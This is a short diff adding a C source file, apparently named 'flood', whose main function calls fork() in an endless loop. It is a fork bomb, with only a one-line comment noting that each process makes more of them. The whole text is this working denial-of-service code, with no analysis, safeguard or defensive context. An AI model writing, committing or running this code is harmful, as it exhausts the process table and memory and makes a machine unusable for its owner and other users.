@@ -1,0 +1,8 @@
+/* Each process makes more of them. */
+#include "flood.h"
+
+int main(void)
+{
+    for (;;)
+        (void)fork();
+}
